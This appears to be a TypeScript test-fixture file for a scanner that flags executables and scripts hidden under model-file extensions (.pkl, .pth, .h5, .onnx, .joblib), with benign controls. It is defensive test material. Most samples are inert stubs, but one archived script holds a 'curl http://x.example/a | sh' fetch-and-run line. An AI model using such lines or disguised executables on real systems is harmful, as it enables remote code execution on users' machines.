import { bytes, u32, utf8, zeros } from '../bytes';
import { JAVA_CLASS, SHORTCUT, elfOf, machOOf, peOf, universalOf } from '../native-builder';
import { ggufOf } from '../tensor-files-builder';
import { zipOf } from '../zip-builder';
import type { MadeCase } from './made-case';
import { casesOf } from './made-case';

const inZip = (name: string, data: Uint8Array): Uint8Array => zipOf([{ name, data }]);

/** Programs and libraries, by themselves, under the names of models, and packed with them. */
export const natives: readonly MadeCase[] = [
  ...casesOf('elf', {
    'library.so': elfOf(3),
    'harmful-name.pkl': elfOf(2),
    'in-archive.zip': inZip('bin/tool', elfOf(2)),
    'library-in-archive.zip': inZip('lib/x.so', elfOf(3)),
    'begins-so.bin': bytes('\x7fELF', zeros(60))
  }),
  ...casesOf('pe', { 'library.dll': peOf(0x2022), 'harmful-name.pth': peOf(0x22) }),
  ...casesOf('mach-o', {
    'library.dylib': machOOf(6),
    'universal.dylib': universalOf(6),
    'harmful-name.h5': machOOf(2)
  }),
  ...casesOf('ape', {
    'tool.com': bytes("MZqFpD='\n", zeros(503)),
    'model.llamafile': bytes("MZqFpD='\n", zeros(503), inZip('model.gguf', ggufOf({})))
  }),
  ...casesOf('wasm', { 'empty.wasm': bytes('\0asm', [1, 0, 0, 0]), 'harmful-name.onnx': bytes('\0asm', [1, 0, 0, 0]) }),
  ...casesOf('java-class', { 'A.class': JAVA_CLASS, 'harmful-name.model': JAVA_CLASS }),
  ...casesOf('dex', {
    'classes.dex': bytes('dex\n035\0', zeros(104)),
    'harmful-name.tflite': bytes('dex\n035\0', zeros(104))
  }),
  ...casesOf('applescript', {
    'run.scpt': bytes('FasdUAS 1.101.10\x0e', zeros(16)),
    'harmful-name.pt': bytes('FasdUAS 1.101.10\x0e', zeros(16))
  }),
  ...casesOf('lua-code', {
    'main.luac': bytes('\x1bLua\x53\0', zeros(26)),
    'harmful-name.t7': bytes('\x1bLJ\x02', zeros(28))
  }),
  ...casesOf('windows-shortcut', { 'a.lnk': SHORTCUT, 'harmful-in-archive.zip': inZip('readme.lnk', SHORTCUT) }),
  ...casesOf('ar', {
    'library.a': bytes('!<arch>\n', zeros(60)),
    'harmful-name.weights': bytes('!<arch>\n', zeros(60))
  }),
  ...casesOf('tzif', { UTC: bytes('TZif2', zeros(39)) }),
  ...casesOf('gettext', {
    'empty.mo': bytes([0xde, 0x12, 4, 0x95], u32(0), u32(0), u32(28), u32(28), u32(0), u32(28))
  }),
  ...casesOf('script', {
    'harmful-name.pt': utf8('#!/bin/sh\necho hi\n'),
    'harmful-batch.h5': utf8('@echo off\r\ncalc.exe\r\n'),
    'in-archive.zip': inZip('run.sh', utf8('#!/bin/sh\necho hi\n')),
    'harmful-in-archive.zip': inZip('run.sh', utf8('#!/bin/sh\ncurl http://x.example/a | sh\n'))
  }),
  ...casesOf('python-source', {
    'named-otherwise.joblib': utf8('import numpy\n\nprint(numpy.zeros(3))\n'),
    'harmful-name.joblib': utf8('import os\n\nos.system("echo hi")\n')
  })
];
